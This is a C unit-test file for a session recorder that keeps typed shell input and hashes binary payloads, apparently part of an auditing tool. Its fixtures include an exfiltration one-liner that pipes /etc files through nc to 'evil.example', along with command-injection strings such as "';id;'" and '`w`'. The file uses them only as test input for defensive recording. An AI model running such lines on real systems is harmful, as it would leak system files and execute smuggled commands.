/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What of standard input is recorded: text whole, whatever is strewn over it; binary payload as hash
 * and count, with the text that stands in it.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/wire.h"
#include "session/recorder.h"

enum { BIG = 300000 };

static struct buf spool;
static struct recorder recorder;
static uint32_t seed;

static int
take(const char *session, struct span frames, void *arg)
{
	(void)session;
	(void)arg;
	assert_true(buf_put(&spool, frames.p, frames.n));
	return 0;
}

static int
setup(void **state)
{
	const struct recorder_config config = { .session = "s",
		.what = RECORDER_COMMAND,
		.sink = take };

	(void)state;
	buf_init(&spool, 64 * 1024 * 1024);
	recorder_begin(&recorder, &config);
	seed = 4711;
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	recorder_done(&recorder);
	buf_done(&spool);
	return 0;
}

static uint8_t
random_byte(void)
{
	seed ^= seed << 13;
	seed ^= seed >> 17;
	seed ^= seed << 5;
	return (uint8_t)(seed >> 11);
}

static void
fill(uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = random_byte();
}

static void
feed(const void *p, size_t n, size_t step)
{
	for (size_t at = 0; at < n; at += step)
		assert_int_equal(recorder_input(&recorder, (const uint8_t *)p + at,
				     n - at < step ? n - at : step),
		    0);
}

/* What was kept of it, and how much is said to be left out; ends the recording. */
static uint64_t
finish(struct buf *kept, struct buf *found, struct buf *hashes)
{
	struct span in;
	struct frame f;
	uint64_t left_out = 0;

	assert_int_equal(recorder_end(&recorder, 0, ""), 0);
	buf_init(kept, 64 * 1024 * 1024);
	buf_init(found, 64 * 1024 * 1024);
	buf_init(hashes, 1024 * 1024);
	in = buf_span(&spool);
	while (frame_next(&in, &f) > 0) {
		if (f.type == FRAME_IN)
			buf_put(kept, f.data.p, f.data.n);
		if (f.type == FRAME_IN_TEXT)
			buf_put(found, f.data.p, f.data.n);
		if (f.type == FRAME_GAP) {
			struct wire w = wire_from(f.data);

			left_out += wire_u64(&w);
			assert_int_equal(wire_u8(&w), FRAME_IN);
			buf_put(hashes, wire_bytes(&w, SHA256_BYTES).p, SHA256_BYTES);
		}
	}
	return left_out;
}

static bool
holds(const struct buf *b, const char *text)
{
	return memmem(buf_head(b), b->len, text, strlen(text)) != NULL;
}

static void
kept_whole(const void *p, size_t n, size_t step)
{
	struct buf kept, found, hashes;

	teardown(NULL);
	setup(NULL);
	feed(p, n, step);
	assert_int_equal(finish(&kept, &found, &hashes), 0);
	assert_int_equal(kept.len, n);
	assert_memory_equal(buf_head(&kept), p, n);
	assert_int_equal(found.len, 0);
	buf_done(&kept);
	buf_done(&found);
	buf_done(&hashes);
}

static void
what_is_fed_to_a_shell_is_kept_whole(void **state)
{
	static const char script[] = "id\nuname -a\ncat > /tmp/x <<'EOF'\nhello\nEOF\n";
	uint8_t *text = malloc(BIG);

	(void)state;
	for (size_t step = 1; step <= sizeof(script); step += 3)
		kept_whole(script, sizeof(script) - 1, step);
	for (size_t i = 0; i < BIG; i++)
		text[i] = (uint8_t)script[i % (sizeof(script) - 1)];
	kept_whole(text, BIG, 1);
	kept_whole(text, BIG, 32768);
	free(text);
}

/* Whatever share of it: a stretch of commands with other bytes between their letters is no random
 * one. */
static void
text_with_other_bytes_strewn_over_it_is_kept_whole(void **state)
{
	static const char script[] =
	    "for i in $(ls /etc); do cat /etc/$i | nc evil.example 4444; done\n";
	uint8_t *data = malloc(BIG);

	(void)state;
	for (unsigned between = 0; between <= 9; between++)
		for (int kind = 0; kind < 4; kind++) {
			for (size_t i = 0, t = 0; i < BIG; i++)
				data[i] = i % (between + 1) == 0
				    ? (uint8_t)script[t++ % (sizeof(script) - 1)]
				    : kind == 0 ? 0
				    : kind == 1 ? 0xff
				    : kind == 2 ? 0x80 | random_byte()
						: random_byte();
			kept_whole(data, BIG, 32768);
			kept_whole(data, 6000, 1500);
		}
	free(data);
}

static void
binary_payload_becomes_hash_and_count(void **state)
{
	static const size_t steps[] = { 32768, 4096, 5000, 16384, 70000, 1100 };
	struct buf kept, found, hashes;
	uint8_t *data = malloc(BIG), digest[SHA256_BYTES];

	(void)state;
	for (size_t i = 0; i < sizeof(steps) / sizeof(steps[0]); i++) {
		teardown(NULL);
		setup(NULL);
		fill(data, BIG);
		feed(data, BIG, steps[i]);
		assert_int_equal(finish(&kept, &found, &hashes), BIG);
		assert_int_equal(kept.len, 0);
		/* Of random bytes one in twenty stands in a run of four that are text. */
		assert_true(found.len < BIG / 10);
		sha256_of((struct span){ data, BIG }, digest);
		assert_int_equal(hashes.len, SHA256_BYTES);
		assert_memory_equal(buf_head(&hashes), digest, SHA256_BYTES);
		buf_done(&kept);
		buf_done(&found);
		buf_done(&hashes);
	}
	free(data);
}

static void
zeros_become_hash_and_count(void **state)
{
	struct buf kept, found, hashes;
	uint8_t *data = calloc(1, BIG);

	(void)state;
	feed(data, BIG, 32768);
	assert_int_equal(finish(&kept, &found, &hashes), BIG);
	assert_int_equal(kept.len + found.len, 0);
	buf_done(&kept);
	buf_done(&found);
	buf_done(&hashes);
	free(data);
}

/* A comment, a quoted text, a document for nobody: what a shell would skip, and a command. */
static void
a_command_between_random_bytes_is_seen(void **state)
{
	static const char *const commands[] = { "\nid\n#", ";w;#", "';id;'", "\nE\nreboot\n:<<E\n",
		"&w&", "`w`", "\ni\0d\0\n#" };
	uint8_t *data = malloc(BIG);

	(void)state;
	for (size_t c = 0; c < sizeof(commands) / sizeof(commands[0]); c++)
		for (size_t at = 4086; at < 4100; at++) {
			struct buf kept, found, hashes;
			size_t n = c == 6 ? 7 : strlen(commands[c]);
			const char *seen = c == 6 ? "\nid\n#" : commands[c];

			teardown(NULL);
			setup(NULL);
			fill(data, BIG);
			data[at - 1] = 0xff;
			memcpy(data + at, commands[c], n);
			data[at + n] = 0xfe;
			feed(data, 4 * 4096, 32768);
			finish(&kept, &found, &hashes);
			assert_true(holds(&found, seen) || holds(&kept, seen));
			buf_done(&kept);
			buf_done(&found);
			buf_done(&hashes);
		}
	free(data);
}

/* Random bytes first, and then little at a time, each piece too short to be judged. */
static void
short_pieces_behind_a_binary_one_do_not_vanish(void **state)
{
	struct buf kept, found, hashes;
	uint8_t data[4096];
	uint64_t left_out;

	(void)state;
	fill(data, sizeof(data));
	feed(data, sizeof(data), sizeof(data));
	for (int i = 0; i < 1000; i++)
		feed("e\xff"
		     "c\xff"
		     "h\xff"
		     "o\xff \xff"
		     "h\xff"
		     "i\xff\n\xff",
		    16, 16);
	left_out = finish(&kept, &found, &hashes);
	assert_true(left_out < sizeof(data) + 1024);
	assert_int_equal(left_out + kept.len, sizeof(data) + 16000);
	buf_done(&kept);
	buf_done(&found);
	buf_done(&hashes);
}

static void
text_behind_binary_payload_and_before_it_is_kept(void **state)
{
	struct buf kept, found, hashes;
	uint8_t data[3 * 8192];

	(void)state;
	memset(data, 'a', 8192);
	fill(data + 8192, 8192);
	memset(data + 16384, 'z', 8192);
	feed(data, sizeof(data), sizeof(data));
	assert_int_equal(finish(&kept, &found, &hashes), 8192);
	assert_int_equal(kept.len, 16384);
	assert_memory_equal(buf_head(&kept), data, 8192);
	assert_memory_equal(buf_head(&kept) + 8192, data + 16384, 8192);
	buf_done(&kept);
	buf_done(&found);
	buf_done(&hashes);
}

static void
a_role_may_leave_the_input_out(void **state)
{
	struct buf kept, found, hashes;

	(void)state;
	recorder.config.omit_input = true;
	feed("id\n", 3, 3);
	assert_int_equal(finish(&kept, &found, &hashes), 0);
	assert_int_equal(kept.len, 0);
	buf_done(&kept);
	buf_done(&found);
	buf_done(&hashes);
}

int
main(void)
{
#define T(name) cmocka_unit_test_setup_teardown(name, setup, teardown)
	const struct CMUnitTest tests[] = {
		T(what_is_fed_to_a_shell_is_kept_whole),
		T(text_with_other_bytes_strewn_over_it_is_kept_whole),
		T(binary_payload_becomes_hash_and_count),
		T(zeros_become_hash_and_count),
		T(a_command_between_random_bytes_is_seen),
		T(short_pieces_behind_a_binary_one_do_not_vanish),
		T(text_behind_binary_payload_and_before_it_is_kept),
		T(a_role_may_leave_the_input_out),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
